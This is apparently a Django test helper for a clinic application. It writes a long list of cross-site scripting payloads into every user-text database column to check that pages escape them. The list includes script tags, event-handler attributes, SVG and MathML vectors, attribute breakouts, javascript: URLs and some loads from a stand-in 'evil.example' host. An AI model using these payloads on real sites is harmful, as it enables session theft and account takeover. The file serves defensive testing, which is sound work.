"""Words that try to become part of the page, put into every column that holds somebody's words.

They are put into the rows themselves, past forms and actions: whatever a form lets through today
or an import brings in tomorrow, a page must show it as words. Each column is marked, so that it
can be told on which pages it was shown.
"""

from __future__ import annotations

import json
from collections.abc import Callable, Iterator
from typing import Any

from django.apps import apps
from django.db import connection, models

from alongside.clinic.vault.fields import SealedJSON, SealedText
from tests.factories.rows import change

RUNS = "alert(1)"
PAYLOADS = (
    # Elements that run something.
    f"<script>{RUNS}</script>",
    f"<SCRIPT/x>{RUNS}</SCRIPT >",
    f"<scr<script>ipt>{RUNS}</script>",
    "<script src=//evil.example/a.js></script>",
    "<script src=data:text/javascript,alert(1)></script>",
    f"<script type=module>{RUNS}</script>",
    f"<img src=x onerror={RUNS}>",
    f"<img/src/onerror={RUNS}//",
    f"<img src=`x` onerror={RUNS}>",
    f"<video><source onerror={RUNS}></video>",
    f"<audio src onloadstart={RUNS}>",
    f"<body onload={RUNS} id=pwned>",
    f"<details open ontoggle={RUNS}>x</details>",
    f"<input autofocus onfocus={RUNS}>",
    f"<select autofocus onfocus={RUNS}></select>",
    f"<marquee onstart={RUNS}>x</marquee>",
    f"<p tabindex=1 onpointerover={RUNS}>x</p>",
    f"<b id=pwned onclick={RUNS}>x</b>",
    # Pictures and formulas that run something.
    f"<svg onload={RUNS}>",
    f"<svg><script>{RUNS}</script></svg>",
    f"<svg><animate onbegin={RUNS} attributeName=x dur=1s></svg>",
    f"<svg><a xlink:href='javascript:{RUNS}'><text>x</text></a></svg>",
    "<svg><foreignObject><iframe srcdoc='<b id=pwned>'></iframe></foreignObject></svg>",
    f"<math><maction actiontype=statusline xlink:href='javascript:{RUNS}'>x</maction></math>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1&gt;'>",
    # Out of where the words stand.
    f'"><script>{RUNS}</script>',
    f"'><img src=x onerror={RUNS}>",
    f'" onmouseover="{RUNS}" data-pwned="',
    f"' onfocus='{RUNS}' autofocus data-pwned='",
    f"` onmouseover={RUNS} data-pwned=`",
    f" onmouseover={RUNS} data-pwned ",
    f"</textarea><script>{RUNS}</script>",
    f"</title><script>{RUNS}</script>",
    f"</style><script>{RUNS}</script>",
    f"</script><script>{RUNS}</script>",
    f"</option></select><img src=x onerror={RUNS}>",
    f"--><script>{RUNS}</script><!--",
    f"]]><script>{RUNS}</script>",
    f"</noscript><img src=x onerror={RUNS}>",
    f'\\";{RUNS};//',
    f"';{RUNS};//",
    f"</p></div></main></body></html><script>{RUNS}</script>",
    # Addresses.
    f"javascript:{RUNS}//",
    f"JaVaScRiPt:{RUNS}",
    f"java\tscript:{RUNS}",
    f"<a href='javascript:{RUNS}'>tap</a>",
    f"<a href='&#106;avascript:{RUNS}'>tap</a>",
    f"<form action='javascript:{RUNS}'><button>x</button></form>",
    f"<button formaction='javascript:{RUNS}'>x</button>",
    f"<object data='data:text/html,<script>{RUNS}</script>'></object>",
    f"<embed src='data:text/html,<script>{RUNS}</script>'>",
    f"<iframe src='javascript:{RUNS}'></iframe>",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<link rel=stylesheet href=//evil.example/a.css>",
    # How it looks.
    "<style>*{background:url(//evil.example)}</style>",
    "<div style='background:url(//evil.example)' id=pwned>x</div>",
    # Templates, entities, and letters that are not what they seem.
    "{{ 7*7 }}{% debug %}{0.__class__}${alert(1)}%(x)s",
    f"&lt;script&gt;{RUNS}&lt;/script&gt;&#60;b id=pwned&#62;",
    f"\uff1cscript\uff1e{RUNS}\uff1c/script\uff1e\u202e\u2028",
)
A_PACK = 5
N_PACKS = len(PAYLOADS) // A_PACK

Fill = Callable[[int], str]
"""The words of one column, by its number."""

NO_WORDS = {
    **dict.fromkeys(
        (
            *("people.Person.password", "credentials.KeySecret.secret", "mfa.Authenticator.data"),
            *("credentials.SignIn.content", "credentials.SignIn.key_hash"),
            *("credentials.Invitation.code_hash", "credentials.RecoveryCode.code_hash"),
            *("credentials.Device.token_hash", "credentials.Device.pin_hash"),
            *("feedback.KioskCode.code_hash", "instruments.Slot.link_key"),
            *("consent.Consent.document_sha256", "disclosures.Disclosure.manifest_sha256"),
            *("instruments.InstrumentVersion.fingerprint", "audit.AuditCheckpoint.note"),
        ),
        "made by a machine: a hash, a key, a signature",
    ),
    **dict.fromkeys(
        (
            *("alliance.AllianceSeries.belief", "alliance.AllianceSeries.summary"),
            *("alliance.AllianceSeries.population", "alliance.LearnedPopulation.parameters"),
            "alliance.LearnedPopulation.facts",
            "alliance.AlarmBudget.reach",
            *("signals.SetAside.occasion", "signals.Usefulness.occasion"),
            *("alliance.CoursePoint.seen", "alliance.Repair.signal", "instruments.Response.scores"),
            *("progress.ProgressSeries.points", "progress.ProgressSeries.change"),
            *("progress.ProgressSeries.standing", "progress.ProgressSeries.scale"),
            *(f"progress.LearnedCourse.{name}" for name in ("scale", "parameters", "facts")),
            "progress.LearnedEffect.told",
            *("engagement.LearnedHazard.parameters", "engagement.LearnedHazard.facts"),
        ),
        "computed: numbers, and names that the scorer gave",
    ),
    **dict.fromkeys(
        (
            *("audit.AuditEvent.deed", "audit.AuditEvent.actor_kind", "audit.AuditEvent.acting_as"),
            *("audit.AuditEvent.subject", "audit.AuditEvent.detail", "people.Clinic.time_zone"),
            *("consent.Consent.segments", "consent.Consent.purposes", "consent.Consent.statements"),
            *("disclosures.LegalDemand.segments", "disclosures.Disclosure.segments"),
            *("disclosures.Disclosure.legal_texts", "disclosures.Disclosure.consents"),
            *("disclosures.Disclosure.formats", "disclosures.Disclosure.request_key"),
            *("disclosures.RestrictionRequest.segments", "disclosures.RestrictionRequest.purposes"),
            *("outbox.Message.kind", "outbox.Message.dedupe", "outbox.Message.lease_by"),
            *("outbox.Message.language", "instruments.Response.language"),
            *("instruments.Answer.state", "instruments.Answer.link_id"),
            *("instruments.InstrumentVersion.role", "instruments.Instrument.url"),
            *("instruments.InstrumentVersion.scoring", "access.KeptFrom.wish"),
            "engagement.LearnedHazard.no_model",
        ),
        "a word from a list of ours, or a name that points to something",
    ),
}
NOT_OURS = {"contenttypes", "auth", "account"}
"""Tables that stay empty, or that hold names of models."""

FOR_A_CAMERA = {"people.Person.display_name", "people.Clinic.outward_name"}
LONGEST_FOR_A_CAMERA = 500
"""They stand in a picture that a phone reads. Forms take 80 and 30 letters of them."""
NOT_REPLACED = {"kind", "language", "until", "link_id", "state"}
TEXTS_OF_A_QUESTIONNAIRE = {"text", "title", "description", "publisher", "display", "valueString"}


def text_columns() -> Iterator[models.Field[Any, Any]]:
    """Every column that can hold a text, but for random names and choices from a list."""
    kinds = (SealedText, SealedJSON, models.CharField, models.TextField, models.JSONField)
    for model in apps.get_models():
        for field in model._meta.local_concrete_fields:
            if (
                isinstance(field, kinds)
                and not field.choices
                and field.name != "public_id"
                and model._meta.app_label not in NOT_OURS
            ):
                yield field


def columns_of_words() -> list[models.Field[Any, Any]]:
    """Those in which somebody's own words stand."""
    return [field for field in text_columns() if label(field) not in NO_WORDS]


def label(field: models.Field[Any, Any]) -> str:
    return f"{field.model._meta.label}.{field.name}"


def mark(number: int) -> str:
    """What tells the words of one column from those of another, wherever they are shown."""
    return f"column{number}said"


def fill(words: Fill) -> set[str]:
    """Those words in every row of every such column; the names of the columns that had rows."""
    _allow_every_change()
    filled = set()
    for number, field in enumerate(columns_of_words()):
        said = f"{mark(number)}{words(number)}"
        if label(field) in FOR_A_CAMERA and len(said) > LONGEST_FOR_A_CAMERA:
            said = f"{mark(number)}{PAYLOADS[0]}{PAYLOADS[25]}"
        for row in field.model._base_manager.all():
            change(row, **{field.attname: _replaced(field, getattr(row, field.attname), said, row)})
            filled.add(label(field))
    return filled


def _allow_every_change() -> None:
    """No trigger refuses a change, until the test is over and all of it is taken back."""
    with connection.cursor() as cursor:
        cursor.execute("SELECT name FROM sqlite_master WHERE type = 'trigger'")
        for (name,) in cursor.fetchall():
            cursor.execute(f"DROP TRIGGER {name}")


def _replaced(field: models.Field[Any, Any], value: Any, said: str, row: models.Model) -> Any:
    name = label(field)
    if name == "instruments.InstrumentVersion.document":
        return json.dumps(_in_json(json.loads(value), said, only=TEXTS_OF_A_QUESTIONNAIRE))
    if name == "instruments.InstrumentVersion.attestation":
        return {"holder": said, "licence": said, "until": ""}
    if isinstance(field, SealedJSON):
        return _in_json(value, said)
    # Names that are found by an index have to differ.
    return (
        f"{said}{row.pk}"
        if name.endswith((".code", ".sign_in_name", ".imported_id", ".place"))
        else said
    )


def _in_json(value: Any, said: str, *, only: set[str] | None = None, key: str = "") -> Any:
    if isinstance(value, dict):
        return {name: _in_json(each, said, only=only, key=name) for name, each in value.items()}
    if isinstance(value, list):
        return [_in_json(each, said, only=only, key=key) for each in value]
    if isinstance(value, str) and key not in NOT_REPLACED and (only is None or key in only):
        return said if not value.startswith("/") else value
    return value
